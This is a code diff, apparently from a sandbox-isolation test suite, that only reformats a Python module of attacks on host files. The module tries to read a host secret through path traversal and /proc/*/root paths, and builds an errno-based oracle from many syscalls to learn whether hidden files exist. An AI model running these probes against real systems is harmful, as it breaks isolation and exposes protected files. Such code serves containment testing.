@@ -1,7 +1,5 @@
 """Attacks on the host's files: paths, links, nodes, handles, and the bare question whether something exists."""
 
-# ruff: noqa: F821 — the names of prelude.py, which stands before it
-
 import ctypes
 import os
 import stat
@@ -16,7 +14,13 @@ def text_of(path):
 def read_host_file(k, c):
     """Read a file of the host, straight or round about."""
     up = "../" * 12 + c["secret"].lstrip("/")
-    ways = [c["secret"], up, "/proc/self/root" + c["secret"], "/proc/1/root" + c["secret"], f"/proc/{c['server']}/root" + c["secret"]]
+    ways = [
+        c["secret"],
+        up,
+        "/proc/self/root" + c["secret"],
+        "/proc/1/root" + c["secret"],
+        f"/proc/{c['server']}/root" + c["secret"],
+    ]
     return by_any(*[lambda way=way: text_of(way) == c["file"] for way in ways])
 
 
@@ -90,9 +94,20 @@ def existence(k, c):
     def execute(path):
         raise OSError(exit_or_errno(lambda: os.execv(path, [path])), "execv")
 
-    questions = (os.stat, os.lstat, os.readlink, text_of, os.chdir, os.listxattr, os.statvfs, execute, os.listdir,
-                 lambda path: None if os.access(path, os.F_OK) else (_ for _ in ()).throw(OSError(2, "access")),
-                 lambda path: os.stat(path + "/.."), lambda path: k.call(254, k.call(294, 0), path.encode(), 2))  # fmt: skip
+    questions = (
+        os.stat,
+        os.lstat,
+        os.readlink,
+        text_of,
+        os.chdir,
+        os.listxattr,
+        os.statvfs,
+        execute,
+        os.listdir,
+        lambda path: None if os.access(path, os.F_OK) else (_ for _ in ()).throw(OSError(2, "access")),
+        lambda path: os.stat(path + "/.."),
+        lambda path: k.call(254, k.call(294, 0), path.encode(), 2),
+    )
     told = [str(n) for n, ask in enumerate(questions) if errno_of(ask, c["secret"]) != errno_of(ask, missing)]
     return ",".join(told)
 
